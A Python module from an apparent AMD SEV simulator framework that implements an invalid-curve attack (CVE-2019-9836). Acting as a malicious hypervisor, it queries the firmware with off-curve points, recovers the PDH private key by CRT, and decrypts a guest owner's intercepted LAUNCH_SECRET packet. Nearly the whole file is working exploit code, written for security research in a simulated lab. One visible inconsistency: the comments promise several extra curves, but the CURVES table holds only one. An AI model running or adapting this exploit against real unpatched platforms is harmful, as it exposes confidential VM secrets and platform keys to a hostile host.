"""F1: CVE-2019-9836: an invalid-curve attack on the SEV platform's PDH key.

Firmware up to 0.17 build 11 multiplied whatever point the host handed it by the PDH private
key without checking that the point lies on P-384. Its affine or Jacobian formulas never use
the curve's `b`, so a point on another curve y^2 = x^3 - 3x + b' is multiplied on that curve;
if the point has small order r, the shared X the firmware derives its keys from is one of r
values, which leaks the key modulo r. Residues for enough coprime r give the key (CRT), and
with it every session a guest owner ever sealed to this PDH: the launch secret included.

The same unchecked multiplication serves every command that takes a peer's point. Through
LAUNCH_START each guess costs a command (the session the host sealed opens or not): the
attack uses it for the key's parity. SEND_START of the host's own guest, with the point as
the "target's PDH", returns a session the firmware sealed under keys derived from that X:
one command per point, and the guesses are checked offline against the session's MAC.
"""

from __future__ import annotations

import hashlib
import hmac
import itertools
import math
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import cached_property

from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ec

from sevsim.abi.sev_cert import (
    Algo,
    CertChain,
    Curve,
    EcPublicKey,
    SevCert,
    Signature,
    Usage,
)
from sevsim.abi.sev_session import (
    MEASUREMENT_API_PREFIX,
    PacketHeader,
    Session,
    TransportKeys,
    key_encryption_keys,
    master_secret,
    open_packet,
)
from sevsim.abi.status import PlatformStatus, SevStatus
from sevsim.attacks.framework import Attack, Attempt, Setting
from sevsim.attacks.lab import Lab
from sevsim.attacks.toolkit import HypervisorAttacker
from sevsim.attest.sev_owner import GuestOwner as LaunchOwner
from sevsim.errors import FirmwareError

P = 2**384 - 2**128 - 2**96 + 2**32 - 1  # P-384's field
ORDER = int("FFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFC7634D81F4372DDF"
            "581A0DB248B0A77AECEC196ACCC52973", 16)  # P-384's group order: the key is below
LIMIT = 1 << 12  # the largest prime power solved offline (a guess per residue)
MAX_GROUPS = 10  # residue groups of unknown relative sign, tried 2^(n-1) ways at the end
Jacobian = tuple[int, int, int]
INFINITY: Jacobian = (1, 1, 0)
_ECDSA = ec.ECDSA(hashes.SHA256())

# Curves y^2 = x^3 - 3x + b over P-384's field, as (b, number of points). First the nodal
# cubic b = -2: its smooth points form the norm-1 torus of F_p^2, a cyclic group of order
# p + 1 = 2^32 * 3^2 * 5 * 7 * 13 * 17 * 97 * 101 * 193 * 241 * 257 * 641 * 673 * 1163 * ...
# Then curves whose points were counted offline with PARI/GP's ellsea (Schoof-Elkies-Atkin),
# kept for the small primes dividing their orders. Public mathematics, not platform data.
CURVES: tuple[tuple[int, int], ...] = (
    (P - 2, P + 1),
)


# -- arithmetic on any curve with a = -3 ---------------------------------------------------------


def double(pt: Jacobian) -> Jacobian:
    """2P (Jacobian coordinates, a = -3)."""
    x, y, z = pt
    if z == 0 or y == 0:
        return INFINITY
    zz = z * z % P
    m = 3 * (x - zz) * (x + zz) % P
    yy = y * y % P
    s = 4 * x * yy % P
    x3 = (m * m - 2 * s) % P
    return x3, (m * (s - x3) - 8 * yy * yy) % P, 2 * y * z % P


def add(p1: Jacobian, p2: Jacobian) -> Jacobian:
    """P1 + P2 (Jacobian coordinates, a = -3)."""
    x1, y1, z1 = p1
    x2, y2, z2 = p2
    if z1 == 0:
        return p2
    if z2 == 0:
        return p1
    z1z1, z2z2 = z1 * z1 % P, z2 * z2 % P
    u1, u2 = x1 * z2z2 % P, x2 * z1z1 % P
    s1, s2 = y1 * z2 * z2z2 % P, y2 * z1 * z1z1 % P
    if u1 == u2:
        return double(p1) if s1 == s2 else INFINITY
    h, r = (u2 - u1) % P, (s2 - s1) % P
    hh = h * h % P
    hhh = h * hh % P
    v = u1 * hh % P
    x3 = (r * r - hhh - 2 * v) % P
    return x3, (r * (v - x3) - s1 * hhh) % P, h * z1 * z2 % P


def multiply(k: int, pt: Jacobian) -> Jacobian:
    """The multiple k * pt, by double-and-add."""
    result = INFINITY
    while k:
        if k & 1:
            result = add(result, pt)
        pt = double(pt)
        k >>= 1
    return result


def xs(points: list[Jacobian]) -> list[bytes]:
    """The affine X of each point as the firmware derives keys from it (48 bytes, zero at
    infinity), with one inversion for all of them (Montgomery's trick)."""
    prefix, acc = [], 1
    for _, _, z in points:
        prefix.append(acc)
        acc = acc * (z or 1) % P
    inverse = pow(acc, -1, P)
    out = [b""] * len(points)
    for i in range(len(points) - 1, -1, -1):
        x, _, z = points[i]
        zinv = inverse * prefix[i] % P
        inverse = inverse * (z or 1) % P
        out[i] = bytes(48) if z == 0 else (x * zinv * zinv % P).to_bytes(48, "big")
    return out


def affine(pt: Jacobian) -> tuple[int, int]:
    """(x, y) of a finite point."""
    x, y, z = pt
    zinv = pow(z, -1, P)
    return x * zinv * zinv % P, y * zinv * zinv * zinv % P


def factor_small(n: int) -> dict[int, int]:
    """The primes below LIMIT dividing n, as {prime: exponent}, the exponent kept while the
    prime power stays below LIMIT (the offline guesses for a residue are that many)."""
    found: dict[int, int] = {}
    for q in range(2, LIMIT):
        if n % q == 0 and all(q % f for f in found):
            e = 1
            while n % q ** (e + 1) == 0 and q ** (e + 1) < LIMIT:
                e += 1
            found[q] = e
    return found


def two_adic(n: int) -> int:
    """The exponent of 2 in n."""
    return (n & -n).bit_length() - 1


@dataclass(frozen=True)
class InvalidCurve:
    """y^2 = x^3 - 3x + b with `points` points: where the firmware's formulas also work."""

    b: int
    points: int

    @cached_property
    def small(self) -> dict[int, int]:
        """The prime powers below LIMIT dividing the order, each a residue to learn."""
        return factor_small(self.points)

    @cached_property
    def smooth(self) -> int:
        """The largest divisor of the order made of primes below LIMIT (the whole 2-part)."""
        part = 1
        for q in self.small:
            while self.points % (part * q) == 0:
                part *= q
        return part

    @cached_property
    def generator(self) -> Jacobian:
        """A point of order exactly `smooth`: the cofactor times the first point, found by
        x = 1, 2, ..., whose order has every small prime power in full."""
        for x in range(1, 1 << 16):
            rhs = (x * x * x - 3 * x + self.b) % P
            if rhs == 0 or pow(rhs, (P - 1) // 2, P) != 1:
                continue
            candidate = multiply(self.points // self.smooth, (x, pow(rhs, (P + 1) // 4, P), 1))
            if all(multiply(self.smooth // q, candidate)[2] for q in self.small):
                return candidate
        raise ValueError(f"no point of order {self.smooth} on the curve with b = {self.b:x}")

    def point_of_order(self, m: int) -> Jacobian:
        """A point of order exactly m, a divisor of `smooth`."""
        if self.smooth % m:
            raise ValueError(f"{m} does not divide the smooth part of the order")
        return multiply(self.smooth // m, self.generator)


def curves() -> Iterator[InvalidCurve]:
    """The table's curves with their small prime powers."""
    for b, points in CURVES:
        yield InvalidCurve(b, points)


# -- the attack ----------------------------------------------------------------------------------


def crt(residues: dict[int, int]) -> tuple[int, int]:
    """(x, M) with x = r mod m for each {m: r}, M the product of the (coprime) moduli."""
    x, modulus = 0, 1
    for m, r in residues.items():
        t = (r - x) * pow(modulus, -1, m) % m
        x, modulus = x + modulus * t, modulus * m
    return x % modulus, modulus


class PdhOracle:
    """One SEND_START per point: the firmware seals fresh transport keys for the 'target'
    whose PDH is our point, under keys derived from X of (PDH key) * point; we keep the
    session and test guesses of that X against its MAC offline."""

    def __init__(self, hv: HypervisorAttacker, handle: int) -> None:
        self.fw, self.handle, self.queries = hv.firmware, handle, 0
        api = self.fw.platform_status()
        self.api = (api.api_major, api.api_minor)
        self.cek, self.oca, self.pek = (ec.generate_private_key(ec.SECP384R1())
                                        for _ in range(3))
        cek = self._cert(Usage.CEK, Algo.ECDSA_SHA256, EcPublicKey.from_key(
            self.cek.public_key()), ((Usage.CEK, self.cek),))
        oca = self._cert(Usage.OCA, Algo.ECDSA_SHA256, EcPublicKey.from_key(
            self.oca.public_key()), ((Usage.OCA, self.oca),))
        pek = self._cert(Usage.PEK, Algo.ECDSA_SHA256, EcPublicKey.from_key(
            self.pek.public_key()), ((Usage.OCA, self.oca), (Usage.CEK, self.cek)))
        self.chain = CertChain(pek, oca, cek).to_bytes()

    def _cert(self, usage: Usage, algo: Algo, key: EcPublicKey,
              signers: tuple[tuple[Usage, ec.EllipticCurvePrivateKey], ...]) -> SevCert:
        unsigned = SevCert(self.api[0], self.api[1], usage, algo, key, Signature.empty(),
                           Signature.empty())
        sigs = [Signature.ecdsa(by, Algo.ECDSA_SHA256,
                                signer.sign(unsigned.signed_bytes(), _ECDSA))
                for by, signer in signers]
        sigs += [Signature.empty()] * (2 - len(sigs))
        return SevCert(self.api[0], self.api[1], usage, algo, key, sigs[0], sigs[1])

    def ask(self, point: Jacobian) -> Callable[[bytes], bool]:
        """Hand the firmware `point` as a target PDH; a test of a guessed shared X."""
        pdh = self._cert(Usage.PDH, Algo.ECDH_SHA256, EcPublicKey(Curve.P384, *affine(point)),
                         ((Usage.PEK, self.pek),))
        start = self.fw.send_start(self.handle, pdh.to_bytes(), self.chain, b"")
        self.fw.send_cancel(self.handle)
        self.queries += 1
        session = Session.from_bytes(start.session)

        def opens(shared_x: bytes) -> bool:
            _, kik = key_encryption_keys(master_secret(shared_x, session.nonce))
            return hmac.new(kik, session.wrap_tk, hashlib.sha256).digest() == session.wrap_mac

        return opens


def solve(opens: Callable[[bytes], bool], point: Jacobian, anchor: int, step: int,
          count: int) -> int | None:
    """The t in 0..count-1 with X of (anchor + step*t) * point opening the session."""
    current, delta = multiply(anchor, point), multiply(step, point)
    batch: list[Jacobian] = []
    for _ in range(count):
        batch.append(current)
        current = add(current, delta)
    for t, x in enumerate(xs(batch)):
        if opens(x):
            return t
    return None


def recover_key(oracle: PdhOracle, pdh: tuple[int, int], trace: Callable[[str], None]
                ) -> int | None:
    """The PDH private key from its residues modulo small prime powers, one off-curve point
    each. One X serves k and -k, so a residue is only known up to sign unless the point's
    order also covers an anchor: a modulus the key is known for already, with k != -k there.
    Residues anchored to each other form a group, consistent up to one sign; the public PDH
    point decides the signs of the groups at the end."""
    table = list(curves())
    torus = table[0]
    known2, bits = 0, 0
    while bits < two_adic(torus.points):  # the torus's 2-part, eight bits per point
        nxt = min(bits + 8, two_adic(torus.points))
        point = torus.point_of_order(1 << nxt)
        t = solve(oracle.ask(point), point, known2, 1 << bits,
                  (1 << (nxt - bits)) if bits else (1 << (nxt - 1)) + 1)
        if t is None:
            return None
        known2, bits = known2 + (t << bits), nxt
    trace(f"k mod 2^{bits} = 0x{known2:x} (up to sign), from four points on the node curve")
    groups: list[dict[int, int]] = [{1 << bits: known2}]
    todo = sorted(((q ** e, q, curve) for curve in table for q, e in curve.small.items()),
                  key=lambda item: item[0])
    for power, prime, curve in todo:
        moduli = [m for group in groups for m in group]
        if math.prod(moduli) > ORDER:
            break
        if any(m % prime == 0 for m in moduli):
            continue
        anchored = [(anchor, group) for group in groups
                    if (anchor := _anchor(group, curve)) is not None]
        if anchored:
            (anchor_mod, anchor_value), group = min(anchored, key=lambda a: a[0][0])
            point = curve.point_of_order(anchor_mod * power)
            t = solve(oracle.ask(point), point, anchor_value, anchor_mod, power)
            if t is None:
                return None
            group[power] = (anchor_value + anchor_mod * t) % power
        elif len(curve.small) > 1 and len(groups) < MAX_GROUPS:
            point = curve.point_of_order(power)  # a new group: k mod q^e up to sign
            t = solve(oracle.ask(point), point, 0, 1, power // 2 + 1)
            if t is None:
                return None
            groups.append({power: t})
    modulus = math.prod(m for group in groups for m in group)
    trace(f"{oracle.queries} SEND_STARTs with off-curve points: the key modulo a "
          f"{modulus.bit_length()}-bit number, in {len(groups)} groups of unknown sign")
    if modulus <= ORDER:
        return None
    for signs in itertools.product((1, -1), repeat=len(groups) - 1):
        residues = dict(groups[0])
        for sign, group in zip(signs, groups[1:], strict=True):
            residues.update({m: sign * r % m for m, r in group.items()})
        value, _ = crt(residues)
        for k in (value, modulus - value):
            if 0 < k < ORDER:
                public = ec.derive_private_key(k, ec.SECP384R1()).public_key().public_numbers()
                if (public.x, public.y) == pdh:
                    return k
    return None


def _anchor(residues: dict[int, int], curve: InvalidCurve) -> tuple[int, int] | None:
    """The smallest modulus g (a known prime power's part dividing the curve's smooth order)
    with k mod g != -k mod g: (g, k mod g); None if the curve has none yet."""
    best: tuple[int, int] | None = None
    for modulus, value in residues.items():
        g = math.gcd(modulus, curve.smooth)
        if g > 1 and 2 * value % g and (best is None or g < best[0]):
            best = (g, value % g)
    return best


class Wiretap:
    """The VMM's side of the guest owner's channel: it passes every message on and keeps a
    copy (the GODH certificate and session of LAUNCH_START, LAUNCH_MEASURE, the LAUNCH_SECRET
    packet). All of it crosses the host in the clear, by design."""

    def __init__(self, owner: LaunchOwner) -> None:
        self.owner = owner
        self.godh = self.session = self.measure = self.header = self.packet = b""

    @property
    def policy(self) -> int:
        """The owner's policy."""
        return self.owner.policy

    def start(self, pdh_cert: bytes, cert_chain: bytes) -> tuple[bytes, bytes]:
        """The owner's GODH certificate and session, copied."""
        self.godh, self.session = self.owner.start(pdh_cert, cert_chain)
        return self.godh, self.session

    def secret_packet(self, launch_measure: bytes, platform_status: bytes
                      ) -> tuple[bytes, bytes]:
        """The owner's LAUNCH_SECRET packet, copied with the measurement it is bound to."""
        status = PlatformStatus.from_bytes(platform_status)
        # from API 0.17 the packet's MAC covers the measurement too
        bound = (status.api_major, status.api_minor) >= MEASUREMENT_API_PREFIX
        self.measure = launch_measure[:32] if bound else b""
        self.header, self.packet = self.owner.secret_packet(launch_measure, platform_status)
        return self.header, self.packet


class InvalidCurvePdh(Attack):
    """Recover the PDH private key with off-curve points of small order, then open the
    guest owner's session and its LAUNCH_SECRET packet."""

    id = "F1"
    name = "CVE-2019-9836: invalid-curve attack on the SEV PDH"
    actor = "malicious hypervisor"
    source = ("C. Cohen (Google), 'AMD Secure Encrypted Virtualization (SEV) Key Recovery', "
              "advisory of 26 June 2019 (CVE-2019-9836)")
    fixes = (Setting("sev", features=frozenset({"fixed-firmware"})),
             Setting("sev-es", features=frozenset({"fixed-firmware"})))
    firmware_flaws = frozenset({"cve-2019-9836"})

    def not_applicable(self, setting: Setting) -> str | None:
        """Only the legacy SEV launch has a PDH session."""
        if setting.mode == "none":
            return "a plain VM has no launch session"
        if setting.mode == "snp":
            return "SNP launches have no PDH session: secrets follow attestation reports"
        return None

    def attempt(self, lab: Lab) -> Attempt:
        """Let the owner launch the victim (copying its messages), then attack the PDH."""
        victim = lab.victim("launch_secret", launch=False)
        owner = lab.owner_terms(victim).owner
        if owner is None:
            raise FirmwareError(SevStatus.INVALID_GUEST, "no guest owner session to attack")
        tap = Wiretap(owner)
        victim.vm.launch(owner=tap)
        hv = lab.hypervisor
        hv.run(victim.vm)
        lab.trace("relayed the guest owner's launch: kept its GODH, session and the "
                  f"LAUNCH_SECRET packet; the victim says {victim.vm.console.strip()!r}")
        parity = self._parity(lab, hv)
        own = lab.victim("secret_in_memory")  # our own VM, which we may SEND_START
        pdh_cert, _ = hv.firmware.pdh_cert_export()
        if not isinstance(pdh_cert.key, EcPublicKey):
            raise FirmwareError(SevStatus.INVALID_CERTIFICATE, "the PDH is not an EC key")
        pdh = (pdh_cert.key.qx, pdh_cert.key.qy)
        key = recover_key(PdhOracle(hv, own.vm.hv.firmware_handle), pdh, lab.trace)
        if key is None:
            return Attempt(b"", "the residues did not give the PDH key")
        lab.trace(f"the PDH private key: {key:096x} (odd: {key % 2 == 1}, as LAUNCH_START "
                  f"said: {parity})")
        return Attempt(self._open(tap, key), "the LAUNCH_SECRET packet, opened")

    @staticmethod
    def _parity(lab: Lab, hv: HypervisorAttacker) -> bool:
        """LAUNCH_START with the point (1, 0), of order 2 on y^2 = x^3 - 3x + 2: the session
        sealed for an odd key (shared X = 1) opens only if the key is odd."""
        session = Session.seal((1).to_bytes(48, "big"), bytes(16), bytes(16),
                               TransportKeys(bytes(16), bytes(16)), 0)
        api = hv.firmware.platform_status()
        godh = SevCert(api.api_major, api.api_minor, Usage.PDH, Algo.ECDH_SHA256,
                       EcPublicKey(Curve.P384, 1, 0), Signature.empty(), Signature.empty())
        try:
            handle = hv.firmware.launch_start(0, godh.to_bytes(), session.to_bytes())
        except FirmwareError as refusal:
            if refusal.status is not SevStatus.BAD_MEASUREMENT:
                lab.trace(f"LAUNCH_START refused the point (1, 0): {refusal}")
                raise
            lab.trace("LAUNCH_START took the point (1, 0), off P-384: the PDH key is even")
            return False
        hv.firmware.decommission(handle)
        lab.trace("LAUNCH_START took the point (1, 0), off P-384: the PDH key is odd")
        return True

    @staticmethod
    def _open(tap: Wiretap, key: int) -> bytes:
        """ECDH with the owner's GODH point, the session's transport keys, the packet."""
        godh = SevCert.from_bytes(tap.godh).key
        if not isinstance(godh, EcPublicKey):
            raise FirmwareError(SevStatus.INVALID_CERTIFICATE, "the GODH is not an EC key")
        shared = ec.derive_private_key(key, ec.SECP384R1()).exchange(ec.ECDH(), godh.to_key())
        keys = Session.from_bytes(tap.session).open(shared, tap.policy)
        payload = open_packet(keys, PacketHeader.from_bytes(tap.header), tap.packet,
                              tap.measure)
        length = int.from_bytes(payload[:4], "little")
        return payload[4:4 + length]
